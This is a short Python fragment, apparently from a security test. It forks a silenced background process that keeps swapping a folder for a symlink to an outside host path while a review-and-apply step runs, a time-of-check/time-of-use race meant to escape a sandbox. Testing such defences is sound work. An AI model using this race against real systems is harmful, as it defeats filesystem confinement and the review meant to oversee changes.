# A folder that is a link to the host's other folder every other moment, while somebody reviews and applies.
put("swapped/secret", "mine\n")
if os.fork() == 0:
    os.setsid()
    nothing = os.open(os.devnull, os.O_RDWR)
    for number in range(3):
        os.dup2(nothing, number)
    end = time.monotonic() + facts["seconds"]
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            os.rename("swapped", "away")
            os.symlink(facts["outside"], "swapped")
            time.sleep(0.001)
            os.unlink("swapped")
            os.rename("away", "swapped")
    os._exit(0)
planted()
